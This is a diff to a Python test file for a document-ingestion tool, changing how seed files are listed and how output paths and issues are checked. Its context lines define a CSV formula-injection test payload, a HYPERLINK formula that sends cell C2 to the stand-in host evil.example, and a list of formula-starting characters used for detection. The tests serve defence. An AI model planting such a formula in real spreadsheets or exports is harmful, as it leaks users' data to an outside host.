@@ -37,7 +37,7 @@ from conftest import RAW, make_pdf
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?d="&C2,"Details")&" AI developers must respect …"'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-SEEDS = sorted(p for p in RAW.iterdir() if p.suffix in (".txt", ".md"))
+SEEDS = sorted(RAW / f for f in pd.read_csv(RAW / "SOURCES.csv")["file"])  # the five Japanese seed documents
 SEED_IDS = sorted(p.stem for p in SEEDS)
 
 
@@ -566,9 +566,12 @@ def test_outputs_store_no_absolute_paths(tmp_path):
     res = _ingest([raw_dir(), raw_dir() / "missing.txt"])  # absolute inputs, as `aicompare all` passes them
     write_ingested(res, tmp_path / "out")
     docs = pd.read_parquet(tmp_path / "out" / "documents.parquet")
-    assert sorted(docs["path"]) == sorted(f"data/raw/{p.name}" for p in SEEDS)
+    listed = [f.parent.relative_to(raw_dir()) / name for f in raw_dir().rglob("SOURCES.csv")
+              for name in pd.read_csv(f)["file"]]
+    assert sorted(docs["path"]) == sorted(f"data/raw/{p.as_posix()}" for p in listed)
     issues = pd.read_csv(tmp_path / "out" / "issues.csv")
-    assert issues["path"].tolist() == ["data/raw/missing.txt"]
+    assert "data/raw/missing.txt" in issues["path"].tolist()
+    assert all(p.startswith("data/raw/") for p in issues["path"])
     assert str(project_root()) not in (tmp_path / "out" / "issues.csv").read_text(encoding="utf-8")
 
 
@@ -638,7 +641,7 @@ def test_hostile_run_all(tmp_path, hostile_folder):
     folder, expected_bad = hostile_folder
     out, fig = tmp_path / "processed", tmp_path / "figures"
     with _time_limit(600):
-        res = run_all(RAW, [folder], overseas=[], out=out, figures=fig, use_cache=False)
+        res = run_all(_seed_folder(tmp_path / "raw"), [folder], out=out, figures=fig, use_cache=False)
     assert res.failed  # the bad files make the run fail …
     assert not [s.name for s in res.stages if s.error]  # … but no stage does
     _check_errors(res.issues, expected_bad)
